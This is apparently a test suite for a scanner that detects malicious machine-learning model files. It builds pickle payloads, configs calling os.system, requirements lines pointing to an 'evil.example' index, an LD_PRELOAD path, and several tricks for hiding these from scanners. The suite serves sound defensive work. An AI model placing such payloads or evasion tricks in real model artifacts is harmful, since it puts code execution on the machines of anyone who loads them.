"""The look finds what carries code, whatever it is called and wherever it hides."""

from __future__ import annotations

import gzip
import importlib
import io
import os
import pickle
import pkgutil
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from modelarmor.generate.artifact.data import MemoryData
from modelarmor.generate.evidence import Finding
from modelarmor.generate.scan import requirements
from modelarmor.generate.scan.look import Look
from modelarmor.generate.scan.pickles.allowed import grade
from modelarmor.generate.scan.report import Report
from tests.generate.scan import benign, malicious
from tests.generate.scan.malicious import EVIL, SYSTEM, stream

pytestmark = pytest.mark.filterwarnings("ignore")  # NumPy's, joblib's and torch's own


def findings(path: Path) -> list[Finding]:
    look = Look(path, seconds=120)
    look.run()
    return list(look.report.findings.values())


def look_at_bytes(content: bytes, name: str) -> Report:
    look = Look(Path(os.devnull), seconds=60)
    look.look(MemoryData(content), name, name, 0)
    return look.report


def told(found: list[Finding]) -> list[str]:
    """Rules of what a reviewer has to decide on."""
    return sorted({item.rule for item in found if item.severity in ("critical", "high", "medium")})


def rules(content: bytes, name: str = "model.pkl") -> list[str]:
    return told(list(look_at_bytes(content, name).findings.values()))


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory) -> Path:
    pytest.importorskip("joblib")
    pytest.importorskip("h5py")
    place = tmp_path_factory.mktemp("malicious")
    malicious.write(place, malicious.cases())
    return place


def test_no_malicious_model_passes(bad: Path) -> None:
    passed = [path.name for path in sorted(bad.iterdir()) if not told(findings(path))]
    assert passed == []


def test_what_would_run_is_critical(bad: Path) -> None:
    missed = [
        name
        for name in ("protocol-0.pkl", "memo-shuffle.pkl", "torch.pt", "joblib-objects-3.joblib",
                     "program.pt2", "array-object.npz", "as-state.pkl", "weights.bin",
                     "config.json", "tf-PyFunc", "cve-2025-1550.keras", "system.skops",
                     "template-loop.gguf")
        if "critical" not in {item.severity for item in findings(bad / name)}
    ]  # fmt: skip
    assert missed == []


@pytest.mark.timeout(600)
def test_false_alarms_on_the_benign_hold_out_stay_below_four_in_a_hundred(tmp_path: Path) -> None:
    pytest.importorskip("sklearn")
    pytest.importorskip("torch")
    count = benign.write(tmp_path)
    assert count > 850
    alarmed = {path.name: told(findings(path)) for path in tmp_path.iterdir()}
    alarms = {name: said for name, said in alarmed.items() if said}
    assert len(alarms) <= 0.04 * count, alarms


def test_the_regression_suites_of_other_scanners_pass_none_of_their_malicious_files() -> None:
    place = os.environ.get("MODELARMOR_CORPORA")
    if not place:
        pytest.skip("set MODELARMOR_CORPORA to a directory with checkouts of picklescan, modelaudit"
                    " and modelscan to measure against their test files")  # fmt: skip
    named = [
        path
        for path in sorted(Path(place).rglob("*"))
        if path.is_file()
        and re.search(r"malicious|exploit|attack|GHSA|evil|bypass|injection", path.name)
        and path.suffix not in (".py", ".md", ".png", ".gif")
        and path.name not in _INERT
    ]
    assert len(named) > 100
    assert [str(path) for path in named if not told(findings(path))] == []


#: called malicious by their authors, these hold strings and nothing that imports or calls
_INERT = frozenset({
    "malicious_model_realistic.pkl", "malicious_import.safetensors", "script_injection.safetensors",
})  # fmt: skip


def test_a_listed_module_offers_nothing_that_acts_on_the_world() -> None:
    """What a library's modules import for themselves can be reached through them."""
    pytest.importorskip("sklearn")
    torch = pytest.importorskip("torch.nn")
    acting = ("subprocess", "os", "posix", "socket", "multiprocessing", "tempfile", "threading",
              "concurrent", "importlib", "shutil", "pickle", "runpy", "ctypes", "urllib", "http",
              "asyncio", "io", "_io", "pathlib", "joblib", "builtins", "typing")  # fmt: skip
    offered = []
    for package in (importlib.import_module("sklearn"), torch):
        for module in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
            if re.search(r"tests|conftest|_testing|cuda|externals", module.name):
                continue
            try:
                loaded = importlib.import_module(module.name)
            except Exception:
                continue
            for name in dir(loaded):
                value = getattr(loaded, name, None)
                root = str(getattr(value, "__module__", "")).partition(".")[0]
                if grade(module.name, name) == "construct" and callable(value) and root in acting:
                    offered.append(f"{module.name}.{name} ({value})")
    harmless = re.compile(r"typing\.|class '(tuple|dict|list|int|float)'|types\.")
    assert [item for item in offered if not harmless.search(item)] == []


def test_only_what_is_listed_may_be_imported() -> None:
    assert grade("sklearn.linear_model._logistic", "LogisticRegression") == "construct"
    assert grade("xgboost.core", "Booster") == "fill"
    assert grade("sklearn.linear_model._logistic", "LogisticRegression.fit") == "unknown"
    assert grade("sklearn.linear_model._logistic", "os") == "unknown"
    assert grade("sklearn.datasets._openml", "OpenML") == "unknown"
    assert grade("sklearn.utils._testing", "TempMemmap") == "unknown"
    assert grade("numpy", "load") == "danger"
    assert grade("numpy", "memmap") == "danger"
    assert grade("torch.nn.functional", "importlib") == "unknown"
    assert grade("torch.nn.modules.linear", "F") == "unknown"
    assert grade("xgboost.core", "_LIB.XGBoosterSaveModel") == "unknown"
    assert grade("cloudpickle.cloudpickle", "_make_function") == "code"
    assert grade("o s", "system") == "unknown"
    assert grade("sklearn.évil", "Model") == "construct"  # cannot be there; nothing is run for it


def test_filling_an_object_is_fine_and_running_its_constructor_is_told() -> None:
    booster = malicious.text("xgboost.core") + malicious.text("Booster") + b"\x93"
    assert rules(stream(booster + b")\x81}b")) == []
    path = malicious.text("/etc/passwd")
    assert rules(stream(booster + path + b"\x85R")) == ["pickle-constructor"]


def test_a_long_pickle_needs_little_memory_and_is_read_to_its_end(tmp_path: Path) -> None:
    import tracemalloc

    file = tmp_path / "model.pkl"
    with file.open("wb") as out:
        out.write(b"\x80\x04](")
        for _ in range(40):
            out.write(b"\x8e" + struct.pack("<Q", 16 << 20))
            out.seek(16 << 20, os.SEEK_CUR)  # a hole: nobody should read it
        out.write(b"e0" + SYSTEM + b".")
    tracemalloc.start()
    found = findings(file)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert told(found) == ["pickle-executes"]
    assert peak < 32 << 20


def test_no_flood_of_findings_hides_a_grave_one() -> None:
    unknown = b"".join(
        malicious.text(f"evil{number}") + malicious.text("x") + b"\x930" for number in range(2000)
    )
    found = look_at_bytes(stream(unknown + SYSTEM), "model.pkl").findings.values()
    assert "critical" in {item.severity for item in found}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("requirements.txt", b"--extra-index-url https://evil.example/simple\n"),
        ("conda.yaml", b"variables: {LD_PRELOAD: /tmp/x.so}\n"),
        ("python_env.yaml", b"dependencies: ['--index-url https://evil.example']\n"),
        ("pickle_module_info.txt", b"evil"),
        ("keras_module.txt", b"evil"),
        ("MLmodel", b"flavors: {python_function: {loader_module: evil}}\n"),
        ("config.yaml", b"_target_: os.system\n"),
        ("config.json", b'{"_target_": "os.system"}'),
    ],
)
@pytest.mark.parametrize("blank", [0, 1 << 20, 5 << 20])
def test_no_length_of_blanks_hides_what_stands_behind_it(
    tmp_path: Path, name: str, content: bytes, blank: int
) -> None:
    (tmp_path / name).write_bytes(b"\n" * blank + content)
    assert {"critical", "high"} & {item.severity for item in findings(tmp_path)}


@pytest.mark.parametrize(
    ("env", "grave"),
    [
        ("{virtualenv: python_env.yaml, conda: conda.yaml}", False),
        ("{virtualenv: envs/python_env.yaml}", False),
        ("conda.yaml", False),
        ("{virtualenv: e.yaml, conda: conda.yaml}", True),
        ("{virtualenv: conda.yaml, conda: conda.yaml}", True),
        ("{conda: e.yaml}", True),
        ("{conda: [conda.yaml]}", True),
        ("e.yaml", True),
    ],
)
def test_an_environment_is_described_where_it_is_looked_at(
    tmp_path: Path, env: str, grave: bool
) -> None:
    (tmp_path / "e.yaml").write_text("dependencies: ['--index-url https://evil.example']\n")
    loader = "loader_module: mlflow.sklearn"
    (tmp_path / "MLmodel").write_text(f"flavors: {{python_function: {{{loader}, env: {env}}}}}\n")
    assert ("mlmodel-environment" in told(findings(tmp_path))) is grave


@pytest.mark.parametrize(
    "name", ["requirements.txt", "conda.yaml", "python_env.yaml", "MLmodel", "keras_module.txt"]
)
@pytest.mark.parametrize("packed", [zlib.compress(EVIL), gzip.compress(EVIL), b"x==1\n"])
def test_a_pickle_called_like_a_file_of_mlflow_is_found(
    tmp_path: Path, name: str, packed: bytes
) -> None:
    (tmp_path / name).write_bytes(packed)
    if packed.startswith(b"x"):  # no pickle, but the archive behind it
        with zipfile.ZipFile(tmp_path / name, "a") as archive:
            archive.writestr("data.pkl", EVIL)
    assert "pickle-executes" in told(findings(tmp_path))


@pytest.mark.parametrize(
    "hidden",
    [
        b"a\n" * 6000 + b"--find-links ./wheels", b"--find-\\\nlinks ./wheels",
        b"--find-\\\r\nlinks ./wheels", b"-\\\n-extra-index-url file:/x", b"--find ./wheels",
        b"-f./wheels", b"--extra-index=file:/x", b"-rother.txt", b"-r other.txt",
        b"x\\\n@ file:./a",
    ],
)  # fmt: skip
def test_an_option_is_found_however_pip_would_read_it(hidden: bytes) -> None:
    report = Report()
    requirements.look_lines(report, f"scikit-learn\n{hidden.decode()}\n", "requirements.txt")
    assert [item.severity for item in report.findings.values()] == ["high"]
    report = Report()
    listed = {"dependencies": ["pip", {"pip": ["scikit-learn", f"x\n{hidden.decode()}"]}]}
    requirements.look_conda(report, listed, "conda.yaml")
    assert "high" in {item.severity for item in report.findings.values()}


@pytest.mark.parametrize(
    "plain", ["x==1 # a comment", "# -i http://x \\\nx", "x \\\n--hash=sha256:00", "--no-index"]
)
def test_requirements_that_name_no_other_place_are_not_grave(plain: str) -> None:
    report = Report()
    requirements.look_lines(report, plain, "requirements.txt")
    assert not {"critical", "high"} & {item.severity for item in report.findings.values()}


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (b'\xef\xbb\xbf{"auto_map": {"AutoModel": "evil.Model"}}', "remote-code"),
        (b'{"x": %s, "auto_map": {"a": "b"}}' % (b"[" * 9000 + b"]" * 9000), "not-inspected"),
    ],
)
def test_json_that_another_reader_may_take_is_told(content: bytes, rule: str) -> None:
    assert rules(content, "config.json") == [rule]


def test_so_many_targets_that_some_are_not_looked_up_are_told() -> None:
    many = b"".join(b"_target_: m%d.f\n" % number for number in range(10_001))
    assert rules(many + b"_target_: os.system\n", "config.yaml") == ["not-inspected"]


def test_what_stands_behind_many_others_is_looked_into_too() -> None:
    harmless = malicious.call("torch.storage", "_load_from_bytes", b"C\x04\x80\x04N.")
    evil = malicious.call("torch.storage", "_load_from_bytes", b"C" + bytes((len(EVIL),)) + EVIL)
    assert "pickle-executes" in rules(stream(harmless * 500 + evil))
    assert "not-inspected" in rules(stream(b"N") * 200 + EVIL)


def test_a_position_is_told() -> None:
    found = look_at_bytes(b"\x80\x04" + b"N0" * 50 + SYSTEM + b".", "model.pkl").findings
    (finding,) = found.values()
    assert finding.location == "model.pkl:115"
    assert "called with ('true')" in finding.detail or "'true'" in finding.detail


@pytest.mark.parametrize(
    "content",
    [
        b"", b"\x80", b"\x80\x04", b"\x80\x09.", b".", b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18,
        b"GGUF", b"GGUF" + b"\xff" * 64, b"\x89HDF\r\n\x1a\n" + b"\xff" * 64, b"\x93NUMPY",
        b"\x93NUMPY\x01\x00\xff\xff{", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0", b"]\0\0\x80\0",
        b"\x04\x22\x4d\x18", b"{" * 5000, b"[" * 200_000, b"\x08\x08:\xff\xff\xff\xff\x0fB\0",
        struct.pack("<Q", 1 << 60) + b"{", b"!!python/object:x", b"\xff\xfe\0\0", b"#!", b"\0" * 9,
        b"\x80\x04" + b"(" * 100_000 + b".", b"\x80\x04" + b")\x85" * 100_000 + b".",
        b"\x80\x04]" + b"2a" * 100_000 + b".", b"I" + b"9" * 100_000 + b"\n.",
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["model.pkl", "model.bin", "saved_model.pb", "config.json"])
def test_broken_files_end_the_look_and_nothing_else(content: bytes, name: str) -> None:
    report = look_at_bytes(content, name)
    failed = [item for item in report.findings.values() if "made the look fail" in item.detail]
    assert not failed
    assert report.findings or report.inspected


def test_mutilated_files_never_make_a_reader_fail(bad: Path) -> None:
    chance = random.Random(1)
    files = [
        path
        for path in sorted(bad.rglob("*"))
        if path.is_file() and path.stat().st_size < 20_000 and not path.name.startswith("gadget")
    ]
    for path in files:
        content = bytearray(path.read_bytes())
        for _ in range(4):
            if content:
                content[chance.randrange(len(content))] = chance.randrange(256)
        cut = bytes(content[: chance.randrange(len(content) + 1)])
        look_at_bytes(bytes(content), path.name)
        look_at_bytes(cut, path.name)


def test_unpacking_stops_at_its_budget() -> None:
    import zlib

    zeros = zlib.compress(b"\0" * (64 << 20), 9)
    from modelarmor.generate.artifact.data import MemoryData
    from modelarmor.generate.scan import spool
    from modelarmor.generate.scan.budget import Budget

    with pytest.raises(spool.Bomb):
        spool.unpack("zlib", MemoryData(zeros), Budget(seconds=60, expanded=32 << 20))


def test_time_that_is_over_is_told_for_every_file_that_is_left(tmp_path: Path) -> None:
    for name in "abc":
        (tmp_path / f"{name}.pkl").write_bytes(EVIL)
    look = Look(tmp_path, seconds=-1)
    look.run()
    places = {item.location for item in look.report.findings.values()}
    assert places == {"a.pkl", "b.pkl", "c.pkl"}
    assert not look.whole


def test_a_plain_dictionary_and_a_list_of_numbers_are_fine() -> None:
    for protocol in range(6):
        value = {"a": [1, 2.5, "x" * 5000], "b": (b"y" * 70_000, None, True, {3, 4})}
        assert rules(pickle.dumps(value, protocol)) == []


def _gzip_of_size(size: int) -> bytes:
    """A stream with nothing in it, and a comment that makes it as long."""
    head, body = b"\x1f\x8b\x08\x10" + bytes(6), gzip.compress(b"")[10:]
    return head + b"c" * (size - len(head) - 1 - len(body)) + b"\0" + body


@pytest.mark.parametrize(
    "packed",
    [
        gzip.compress(b"") + bytes(99) + gzip.compress(EVIL),
        zlib.compress(EVIL[:5], 9) + zlib.compress(EVIL[5:], 1),
        # the first block that is read ends within the second one's magic
        _gzip_of_size((1 << 20) - 1) + gzip.compress(EVIL),
    ],
    ids=["padded", "levels", "block"],
)
def test_every_stream_of_a_compressed_file_is_read(packed: bytes) -> None:
    assert "pickle-executes" in rules(packed)


@pytest.mark.parametrize("name", ["object", "object_", "<i4,object", "(2,)object"])
def test_an_array_of_objects_is_one_by_any_name_that_numpy_takes(name: str) -> None:
    numpy = pytest.importorskip("numpy")
    header = repr({"descr": name, "fortran_order": False, "shape": (1,)}).encode().ljust(117)
    content = b"\x93NUMPY\x01\0" + struct.pack("<H", 118) + header + b"\n" + EVIL
    with pytest.raises(ValueError, match="Object arrays"):
        numpy.load(io.BytesIO(content))
    assert rules(content, "weights.npy") == ["pickle-executes"]


def test_few_bytes_of_what_no_reader_knows_are_no_error() -> None:
    assert rules(gzip.compress(b"X\n\0\0\0\2"), "model.rds") == ["not-inspected"]
